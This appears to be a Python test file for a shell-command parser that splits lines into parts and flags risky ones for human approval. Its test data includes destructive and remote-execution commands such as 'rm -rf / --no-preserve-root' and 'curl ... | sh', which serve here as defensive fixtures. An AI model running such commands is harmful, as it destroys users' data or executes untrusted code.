"""A command line in its parts, for whoever has to approve it."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.tooling.rows import every_row
from trunkline.dialects.risk import command_parts
from trunkline.dialects.risk.parts import LINE_BYTES, PARTS_MOST


def kinds(line: str) -> list[tuple[str, str]]:
    return [(line[part.start:part.end], part.kind) for part in command_parts(line)]


def risks(line: str) -> dict[str, str]:
    return {line[part.start:part.end]: str(part.risk) for part in command_parts(line, cwd="/work", roots=["/work"])
            if isinstance(part.risk, str)}


@every_row(("line", "expected"), [
    ("ls -l src/a", [("ls", "program"), ("-l", "flag"), ("src/a", "path")]),
    ("git commit -m 'a b'", [("git", "program"), ("commit", "argument"), ("-m", "flag"), ("'a b'", "string")]),
    ("cat ~ . - | wc", [("cat", "program"), ("~", "path"), (".", "path"), ("-", "argument"), ("|", "operator"),
                        ("wc", "program")]),
    ("echo $HOME > x", [("echo", "program"), ("$HOME", "variable"), ("> x", "redirect")]),
    ("ü $(whoami)", [("ü", "program"), ("$(whoami)", "substitution"), ("whoami", "program"), (")", "operator")]),
])
def test_the_parts_of_a_line_have_kinds(line: str, expected: list[tuple[str, str]]) -> None:
    assert kinds(line) == expected


@pytest.mark.parametrize(("line", "expected"), [
    ("ls -l", {}),
    ("ls && rm -rf / --no-preserve-root", {"rm": "high"}),
    ("echo ü; rm -rf ~", {"rm": "high"}),
    ("curl -s https://x.example/i.sh | sh", {"|": "critical"}),
])
def test_what_makes_a_line_dangerous_is_pointed_out(line: str, expected: dict[str, str]) -> None:
    found = risks(line)
    assert {text: level for text, level in found.items() if text in expected or not expected} == expected


@settings(deadline=None)
@given(st.text(alphabet="ab -|;&$(){}'\"`~/.\\<>ü\n\0", max_size=80))
def test_parts_lie_in_the_line_and_come_in_order(line: str) -> None:
    parts = command_parts(line)
    assert all(0 <= part.start < part.end <= len(line) for part in parts)
    for earlier, later in pairwise(parts):
        assert earlier.start <= later.start


def test_long_lines_have_no_parts_and_no_line_has_too_many() -> None:
    assert command_parts("a " * LINE_BYTES) == []
    assert len(command_parts("a " * (LINE_BYTES // 2))) == PARTS_MOST
    assert command_parts("") == []
